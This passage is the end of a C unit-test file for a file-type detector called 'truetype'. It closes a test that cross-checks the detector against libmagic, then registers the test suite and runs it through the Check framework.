		unsigned char *d = case_bytes(&buf_cases[i], &size);
		ck_assert_int_eq(ftruncate(fd, 0), 0);
		ck_assert_int_eq(pwrite(fd, d, size, 0), (ssize_t)size);
		free(d);
		cross_check(m, buf_cases[i].what, tmp, &buffers);
	}
	close(fd);
	unlink(tmp);
	printf("truetype vs libmagic: clamav-testfiles %d/%d, fixtures %d/%d, "
	       "built buffers %d/%d\n",
	       files.agree, files.total, fixtures.agree, fixtures.total,
	       buffers.agree, buffers.total);
	printf("truetype vs libmagic: %d/%d agree\n",
	       files.agree + fixtures.agree + buffers.agree,
	       files.total + fixtures.total + buffers.total);
	mock_host_free(m);
}
END_TEST

static Suite *truetype_suite(void)
{
	Suite *s = suite_create("truetype");
	TCase *tc = tcase_create("typer");
	tcase_set_timeout(tc, 300);
	tcase_add_test(tc, test_load);
	tcase_add_test(tc, test_clamav_testfiles);
	tcase_add_test(tc, test_clamav_table_complete);
	tcase_add_test(tc, test_fixtures);
	tcase_add_test(tc, test_buffers);
	tcase_add_test(tc, test_zip_encryption_bits);
	tcase_add_test(tc, test_ole2_difat);
	tcase_add_test(tc, test_hostile);
	tcase_add_test(tc, test_speed);
	suite_add_tcase(s, tc);

	tc = tcase_create("condition");
	tcase_add_test(tc, test_condition_compile_errors);
	tcase_add_test(tc, test_condition_match);
	suite_add_tcase(s, tc);

	tc = tcase_create("libmagic");
	tcase_set_timeout(tc, 300);
	tcase_add_test(tc, test_libmagic_cross_check);
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(truetype_suite());
	srunner_run_all(sr, CK_NORMAL);
	int failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
